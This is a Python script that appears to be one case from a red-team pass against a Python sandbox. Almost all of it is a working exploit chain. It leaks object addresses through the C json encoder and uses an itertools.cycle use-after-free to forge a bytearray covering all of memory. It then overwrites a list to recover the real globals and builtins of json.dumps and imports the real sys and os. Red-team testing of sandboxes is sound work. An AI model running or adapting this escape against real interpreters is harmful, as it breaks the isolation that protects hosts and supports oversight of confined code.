# technique: cases 571 and 572 chained: json markers give addresses, the cycle use-after-free a bytearray over all memory, which writes json.dumps's globals and builtins into a list: the real sys and os (red-team pass 66)
# expect: any
import itertools, copy, json
BA_TYPE = 0x1001c80
class T(tuple): pass
def q(v): return v.to_bytes(8, "little")

class Z: pass
def leak_keys(obj):
    m = {}
    got = []
    def default(o):
        got.extend(m.keys())
        return None
    f = json.encoder.c_make_encoder(m, default, json.encoder.c_encode_basestring, None, ":", ",", False, False, True)
    f(obj, 0)
    return got
def addr_of(obj):
    return leak_keys([obj])[-1]

fake = q(1 << 40) + q(BA_TYPE) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
fake = fake + b"\0" * (79 - len(fake))
X = bytes(range(40))
saved = [None, None, None, None, None, None, X, None]
del X
class C(itertools.cycle):
    def __reduce__(self):
        return (C, ([],), T((saved, 1)))
c = copy.copy(C([]))
for i in range(6): next(c)
del saved[5:]
spray = bytearray(fake)
mem = next(c)
assert len(mem) == 1 << 62

def rd(a): return int.from_bytes(mem[a:a + 8], "little")
def wr(a, v): mem[a:a + 8] = q(v)

fa = addr_of(json.dumps)
g = rd(fa + 16)           # PyFunctionObject.func_globals
b = rd(fa + 24)           # func_builtins
holder = [None, None, Z()]
h = leak_keys(holder)[0]
items = rd(h + 24)        # PyListObject.ob_item
wr(g, rd(g) + 1); wr(b, rd(b) + 1)
wr(items, g); wr(items + 8, b)
real_globals, real_builtins, _ = holder
print(real_globals["__name__"], type(real_builtins), len(real_builtins))
imp = real_builtins["__import__"]
sys = imp("sys")
print("real sys:", sys, sorted(sys.modules)[:5])
print("os.getpid:", imp("os").getpid())
